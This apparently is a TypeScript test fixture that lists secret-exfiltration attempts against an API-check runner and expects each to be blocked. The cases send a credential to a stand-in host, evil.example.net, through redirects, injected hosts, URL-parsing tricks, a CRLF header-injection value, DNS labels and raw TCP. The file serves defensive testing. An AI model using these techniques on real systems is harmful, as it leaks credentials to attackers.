import type { RunOptions } from '../../lib/runner/options.js'
import { answerJson, type HttpHandler, redirectTo } from './http-server.js'
import { httpStep } from './run.js'

export const SECRET = 'S3cret/value+of=the test'
export const TOKEN = 'the-token-of-the-issuer'
const REF = '${AWS_SECRET:app}'
export const KEY = { type: 'API_KEY', apiKey: REF }

export interface Places {
  /** `http://api.example.com:PORT` and `http://evil.example.net:PORT`; both names lead to loopback. */
  readonly good: string
  readonly evil: string
  readonly goodPort: number
  readonly evilPort: number
}

export interface Attack {
  readonly steps: (places: Places) => Record<string, unknown>
  readonly variables?: (places: Places) => Record<string, string>
  /** Bound to api.example.com unless given. */
  readonly options?: (places: Places) => Partial<RunOptions>
  /** What the good server answers; a token unless given. */
  readonly answer?: (places: Places) => HttpHandler
  /** The error of the last step, or the status when it is not the errored one. */
  readonly ends: string
  readonly secret?: string
}

const oauth = (tokenUrl: string) => ({
  type: 'OAUTH_CLIENT_CREDENTIALS',
  tokenUrl,
  clientId: 'client',
  clientSecret: REF,
})
const sigv4 = {
  type: 'SIGV4',
  service: 'execute-api',
  region: 'eu-west-1',
  roleArn: 'arn:aws:iam::123456789012:role/a',
}
export const unbound = () => ({ secretHosts: [] })
const following = () => ({ followRedirects: true })
export const extracting = (url: string) =>
  httpStep('first', url, { extractors: [{ name: 'x', type: 'BODY', path: '$.x' }] })
export const sending = (url: string, given: object = { authentication: KEY }) => ({
  1: httpStep('a', url, { ...given }),
})
export const notAllowed = 'SECRET_NOT_ALLOWED'

export const attacks: Readonly<Record<string, Attack>> = {
  'another host in the URL': { steps: ({ evil }) => sending(evil), ends: notAllowed },
  'a header of its own': { steps: ({ evil }) => sending(evil, { headers: { 'X-A': REF } }), ends: notAllowed },
  'the body': { steps: ({ evil }) => sending(evil, { httpMethod: 'POST', body: `a=${REF}` }), ends: notAllowed },
  'the query': { steps: ({ evil }) => sending(`${evil}/?a=${REF}`, {}), ends: notAllowed },
  'the password of BASIC': {
    steps: ({ evil }) => sending(evil, { authentication: { type: 'BASIC', username: 'u', password: REF } }),
    ends: notAllowed,
  },
  'a variable that holds the secret': {
    variables: () => ({ v: `Bearer ${REF}` }),
    steps: ({ evil }) => sending(evil, { headers: { Authorization: '${v}' } }),
    ends: notAllowed,
  },
  'another token endpoint': {
    steps: ({ good, evil }) => sending(good, { authentication: oauth(evil) }),
    ends: notAllowed,
  },
  'the token of a good issuer': {
    steps: ({ good, evil }) => sending(evil, { authentication: oauth(good) }),
    ends: notAllowed,
  },
  'a redirect with a key in its own header': {
    steps: ({ good }) => sending(good),
    options: following,
    answer: ({ evil }) => redirectTo(evil),
    ends: 'passed',
  },
  'a redirect with the body': {
    steps: ({ good }) => sending(good, { httpMethod: 'POST', body: REF }),
    options: following,
    answer: ({ evil }) => redirectTo(evil, 307),
    ends: 'HTTP_REDIRECT_REFUSED',
  },
  'a redirect of the token request': {
    steps: ({ good }) => sending(good, { authentication: oauth(good) }),
    options: following,
    answer: ({ evil }) => redirectTo(evil, 307),
    ends: 'AUTH_TOKEN_FAILED',
  },
  'a redirect with the token': {
    steps: ({ good }) => sending(good, { authentication: oauth(`${good}/token`) }),
    options: following,
    answer:
      ({ evil }) =>
      (request, response) =>
        (request.method === 'POST' ? answerJson({ access_token: TOKEN }) : redirectTo(evil))(request, response),
    ends: 'passed',
  },
  'a host that an answer gives': {
    steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', '${x}/path', { authentication: KEY }) }),
    options: unbound,
    answer: ({ evil }) => answerJson({ x: evil }),
    ends: notAllowed,
  },
  'an answer as the host': {
    steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', 'http://${x}/', { authentication: KEY }) }),
    options: unbound,
    answer: ({ evilPort }) => answerJson({ x: `evil.example.net:${evilPort}` }),
    ends: notAllowed,
  },
  'an answer that makes the host a user name': {
    steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', `${good}\${x}`, { authentication: KEY }) }),
    options: unbound,
    answer: ({ evilPort }) => answerJson({ x: `@evil.example.net:${evilPort}/` }),
    ends: notAllowed,
  },
  'an answer that continues the host': {
    steps: ({ good }) => ({
      1: extracting(good),
      2: httpStep('b', 'http://api.example.com${x}', { authentication: KEY }),
    }),
    options: unbound,
    answer: ({ evilPort }) => answerJson({ x: `.evil.example.net:${evilPort}/` }),
    ends: notAllowed,
  },
  'an answer that signs': {
    steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', '${x}', { authentication: sigv4 }) }),
    options: unbound,
    answer: ({ evil }) => answerJson({ x: evil }),
    ends: notAllowed,
  },
  'an answer as the token endpoint': {
    steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', good, { authentication: oauth('${x}') }) }),
    options: unbound,
    answer: ({ evil }) => answerJson({ x: evil }),
    ends: notAllowed,
  },
  'a user name that looks like the host': {
    steps: ({ evilPort }) => sending(`http://api.example.com@evil.example.net:${evilPort}/`),
    ends: notAllowed,
  },
  'a backslash': {
    steps: ({ evilPort }) => sending(`http://evil.example.net:${evilPort}\\@api.example.com/`),
    ends: notAllowed,
  },
  'full-width dots': { steps: ({ evilPort }) => sending(`http://evil。example.net:${evilPort}/`), ends: notAllowed },
  'a number for an address': { steps: ({ evilPort }) => sending(`http://2130706433:${evilPort}/`), ends: notAllowed },
  'a mapped address': { steps: ({ evilPort }) => sending(`http://[::ffff:127.0.0.1]:${evilPort}/`), ends: notAllowed },
  'a host that only begins alike': {
    steps: ({ evilPort }) => sending(`http://api.example.com.evil.example.net:${evilPort}/`),
    ends: notAllowed,
  },
  'another port': {
    steps: ({ evilPort }) => sending(`http://api.example.com:${evilPort}/`),
    options: ({ goodPort }) => ({ secretHosts: [{ name: '*', host: `http://api.example.com:${goodPort}` }] }),
    ends: notAllowed,
  },
  'no TLS': {
    steps: ({ good }) => sending(good),
    options: () => ({ secretHosts: [{ name: '*', host: 'api.example.com' }] }),
    ends: notAllowed,
  },
  'a name that leads to a forbidden address': {
    steps: ({ evil }) => sending(evil),
    options: () => ({ secretHosts: [], allowHosts: ['10.0.0.0/8'] }),
    ends: 'HOST_NOT_ALLOWED',
  },
  'a rewrite that the allowed hosts do not cover': {
    steps: ({ good }) => sending(`${good}/${REF}`, {}),
    options: ({ good, evil }) => ({
      secretHosts: [],
      allowHosts: ['api.example.com'],
      rewrites: [{ from: good, to: evil }],
    }),
    ends: 'HOST_NOT_ALLOWED',
  },
  'a rewrite to a host the secret is not bound to': {
    steps: ({ good }) => sending(good),
    options: ({ good, evil }) => ({ rewrites: [{ from: good, to: evil }] }),
    ends: notAllowed,
  },
  'a line break in the value': {
    steps: ({ good }) => sending(good, { headers: { 'X-A': REF } }),
    secret: `${SECRET}\r\nHost: evil.example.net`,
    ends: 'RESOLVED_VALUE_INVALID',
  },
  'the name of a host': {
    steps: ({ evilPort }) => sending(`http://${REF}.evil.example.net:${evilPort}/`, {}),
    options: unbound,
    secret: 'secret-label',
    ends: notAllowed,
  },
  'TCP data': {
    steps: ({ evilPort }) => ({
      1: {
        stepName: 'a',
        checkerType: 'TCP',
        hostname: 'evil.example.net',
        port: evilPort,
        sendData: REF,
        assertions: [{ type: 'CONNECTION_SUCCESSFUL', value: true }],
      },
    }),
    ends: notAllowed,
  },
  'a question to a name server': {
    variables: () => ({ name: `${REF}.example.net` }),
    steps: ({ evilPort }) => ({
      1: {
        stepName: 'a',
        checkerType: 'DNS',
        domain: '${name}',
        nameserver: '127.0.0.1',
        port: evilPort,
        assertions: [{ type: 'RECORD_COUNT', operator: 'EQUALS', value: 1 }],
      },
    }),
    options: unbound,
    secret: 'secret-label',
    ends: notAllowed,
  },
}
